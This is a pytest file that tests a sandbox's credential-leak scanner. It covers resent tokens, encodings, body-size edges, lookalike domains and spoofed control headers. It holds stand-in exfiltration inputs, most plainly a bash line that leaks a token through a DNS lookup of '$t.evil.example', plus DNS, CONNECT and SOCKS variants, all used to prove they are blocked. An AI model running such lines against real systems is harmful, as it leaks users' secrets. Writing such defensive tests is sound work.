"""Claim: where what is sent is scanned, a credential that came in an answer does not go out again, none leaves at the
edges of what is looked at together, no field that a cage writes turns anything off, and a refusal tells no value, be it
in a name, a Host or a path.
"""

from __future__ import annotations

import base64
import gzip
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from _support.inspected import ANSWER, NAME
from _support.internet import Host, Internet
from _support.planted import plant
from _support.scanned import SCAN, TOKEN, ScannedHost, chunked, get, post, scanned
from pysandbox import Cage, Event, Policy
from pysandbox.dlp.canary import OF_VARIABLES, new_values
from pysandbox.dlp.registry import BY_NAME
from pysandbox.dlp.scope import may_go
from pysandbox.policy.names import canonical
from pysandbox.runtime.runtime import Runtime

from .network import attack

REFUSED = b"x-pysandbox-dlp-detector: github_pat\r\n"
LARGEST, MOST = 8 << 20, 1 << 26  # bytes of a body that are looked at together; that are passed on
CANARIES = new_values(OF_VARIABLES)
plant(*(value[4:] for value in CANARIES.values()), *(value[4:].lower() for value in CANARIES.values()))


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ScannedHost]:
    with scanned(tmp_path_factory.mktemp("scanned"), canaries=CANARIES) as made:
        yield made


@pytest.fixture(autouse=True)
def clean(host: ScannedHost) -> None:
    host.server.heard.clear()
    host.asking.events.clear()
    host.server.answer = ANSWER


# ---- out of an answer ------------------------------------------------------------------------------------------------


def answered(said: bytes, *fields: bytes) -> bytes:
    return b"\r\n".join((b"HTTP/1.1 200 OK", b"Content-Length: %d" % len(said), *fields, b"", said))


AGAIN = {
    "a body": lambda said: post(said),
    "a cookie": lambda said: get(b"/", b"Cookie: session=" + said),
    "a field": lambda said: get(b"/", b"X-Csrf: " + said),
    "a query": lambda said: get(b"/?state=" + said),
    "base64": lambda said: post(base64.b64encode(b"state: " + said)),
    "gzip": lambda said: post(gzip.compress(said), b"Content-Encoding: gzip"),
    "chunks": lambda said: chunked(said, 7),
}


@pytest.mark.parametrize("way", AGAIN)
def test_what_came_in_an_answer_does_not_go_out_again(host: ScannedHost, way: str) -> None:
    """The control: the answer arrives as it is, nothing is told of it, and a word of it may go back."""
    host.server.answer = answered(b'{"token": "' + TOKEN + b'"}', b"Set-Cookie: session=" + TOKEN, b"X-Word: a-word")
    got = host.send([get(b"/login")])
    assert got.count(TOKEN) == 2 and host.found() == []
    assert host.send([get(b"/", b"X-Word: a-word")]).startswith(b"HTTP/1.1 200 ")
    heard, told = len(host.server.heard), host.asking.session.ledger.counts.get("gatekeeper.credential_found", 0)
    resent = got.partition(b'"token": "')[2].partition(b'"')[0]
    answer = host.send([AGAIN[way](resent)])
    assert answer.startswith(b"HTTP/1.1 451 ") and REFUSED in answer, answer
    assert len(host.server.heard) == heard
    assert {each["verdict"] for each in host.found()} <= {"blocked"}  # one event for each place
    assert host.asking.session.ledger.counts["gatekeeper.credential_found"] > told


# ---- at the edges ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("more", [-1, 0, 1])
def test_a_body_at_the_edge_of_what_is_looked_at_together(host: ScannedHost, more: int) -> None:
    filling = b"all work and no play \n" * (LARGEST // 22 + 1)
    whole = filling[: LARGEST + more - len(TOKEN) - 1] + b" "
    assert host.send([post(whole + b"." * len(TOKEN))]).endswith(b"hello")  # the control
    assert len(host.server.heard) > LARGEST + more
    host.server.heard.clear()
    for sent in (post(whole + TOKEN), chunked(whole + TOKEN, 1 << 20)):
        answer = host.send([sent])
        assert REFUSED in answer or answer == b"", answer  # where its beginning had left, it is cut off
        assert TOKEN[:12] not in host.server.heard


def test_a_body_of_more_than_is_passed_on_is_refused_by_its_length(host: ScannedHost) -> None:
    head = post(b"").replace(b"Content-Length: 0", b"Content-Length: %d")
    assert host.send([head % (MOST + 1)]).startswith(b"HTTP/1.1 413 ") and host.server.heard == b""
    assert host.send([(head % 5) + b"hello"]).endswith(b"hello")  # the control


# ---- where a home is -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [
    "github.com.evil.example", "evilgithub.com", "github.com-evil.example", "github.co", "com", "github.example",
    "xn--github-2of.com", "g\N{CYRILLIC SMALL LETTER I}thub.com", "140.82.112.3", "api.github.com.evil.example",
])  # fmt: skip
def test_what_looks_like_a_home_is_none(name: str) -> None:
    assert may_go(BY_NAME["github_pat"], "github.com") and may_go(BY_NAME["github_pat"], canonical("API.GitHub.com."))
    assert not may_go(BY_NAME["github_pat"], name if name[0].isdigit() else canonical(name))


def test_to_its_home_it_goes_and_is_told(tmp_path: Path) -> None:
    with scanned(tmp_path, replace(SCAN, scopes=(("github_pat", (NAME,)),))) as host:
        assert host.send([get(b"/", b"Authorization: token " + TOKEN)]).endswith(b"hello")
        assert TOKEN in host.server.heard and [each["verdict"] for each in host.found()] == ["home"]


# ---- what a cage says of itself --------------------------------------------------------------------------------------

OWN_WORDS = (
    b"X-Pysandbox-Error: none", b"x-pysandbox-dlp-detector: none", b"X-Pysandbox-Dlp-Reason: allowed",
    b"X-Pysandbox-Dlp-Warning: github_pat", b"X-Pysandbox-Allow-Credentials: github_pat", b"X-Pysandbox-Monitor: true",
)  # fmt: skip


@pytest.mark.parametrize("word", OWN_WORDS)
def test_no_field_of_a_request_turns_anything_off(host: ScannedHost, word: bytes) -> None:
    assert host.send([get(b"/", word)]).endswith(b"hello")  # the control: to the server it is a field like others
    assert word in host.server.heard
    host.server.heard.clear()
    for sent in (get(b"/?a=" + TOKEN, word), post(TOKEN, word), get(b"/", word + b", " + TOKEN)):
        answer = host.send([sent])
        assert answer.startswith(b"HTTP/1.1 451 ") and REFUSED in answer
    assert host.server.heard == b""


def test_basic_with_another_one_beside_the_user_is_found(host: ScannedHost) -> None:
    """The control is a password that is a word."""
    assert host.send([get(b"/", b"Authorization: Basic " + base64.b64encode(b"user:a-word"))]).endswith(b"hello")
    for said in (b"user:" + TOKEN, TOKEN + b":", b"user:" + base64.b64encode(TOKEN)):
        for scheme in (b"Basic ", b"basic ", b"Basic\t"):
            answer = host.send([get(b"/", b"Authorization: " + scheme + base64.b64encode(said).rstrip(b"="))])
            assert REFUSED in answer, (said, scheme, answer)
    assert TOKEN not in host.server.heard


# ---- what is told of a refusal ---------------------------------------------------------------------------------------


def test_a_host_that_is_another_one_and_has_one_in_it_is_told_without_it(host: ScannedHost) -> None:
    for name, value in CANARIES.items():
        for sent in (
            get(b"/" + value.encode(), b"X-A: 1"),
            get().replace(NAME.encode(), value.lower().encode() + b".a.example"),
        ):
            answer = host.send([sent])
            assert not answer.startswith(b"HTTP/1.1 200 ") and answer, (name, answer)
    assert host.server.heard == b""
    told = f"{host.asking.events} {host.asking.session.ledger.denials()}".lower()
    assert not [value for value in CANARIES.values() if value.lower() in told]


ASKED = """
    says("the control", dns, b"a-word.elsewhere.example")
    says("dns", dns, CANARY.lower().encode() + b".elsewhere.example")
    says("in two labels", dns, (CANARY[:20] + "." + CANARY[20:] + ".elsewhere.example").lower().encode())
    says("connect", connect, CANARY.lower().encode() + b".elsewhere.example", 443)
    says("socks", socks, CANARY.lower().encode() + b".elsewhere.example", 443)
"""


def test_a_name_that_is_refused_is_told_without_the_credential_in_it(net_host: Host, net: Internet) -> None:
    """Without a scan it is told as it was asked: the control."""
    token = "npm_" + "k7Qz9WmB2x" * 3 + "v4Lt8Y"
    said = [
        attack(net_host, ASKED, names={"CANARY": token}, hosts=("origin.example",), **more)
        for more in ({}, {"dlp_enabled": True})
    ]
    told = [f"{each.answer.denials} {each.answer.events}".lower() for each in said]
    assert token.lower() in told[0] and token.lower() not in told[1] and token[20:].lower() not in told[1]
    assert all("a-word.elsewhere.example" in each for each in told) and "a name" in told[1]
    assert not [each for each in net.questions() if token.lower()[:20] in each]


def test_a_child_that_was_started_with_one_is_told_without_it() -> None:
    """What it asks for is in its arguments as well. Without a scan both are told: the control."""
    token = "npm_" + "k7Qz9WmB2x" * 3 + "v4Lt8Y"
    script = "t=$(cat); getent hosts $t.evil.example; getent hosts a-word.evil.example; true"
    told = []
    for more in ({}, {"dlp_enabled": True}):
        events: list[Event] = []
        runtime = Runtime(warm=0, sink=events.append)
        try:
            policy = Policy(hosts=["origin.example"], **more)
            result = Cage(policy, runtime=runtime).run(["bash", "-c", script], input=token)
        finally:
            runtime.drain()
        assert len(result.denials) == 2 and result.denials[0].argv, result
        told.append(f"{result.denials} {events}")
    assert token in told[0] and token not in told[1] and "a-word.evil.example" in told[1] and "getent" in told[1]
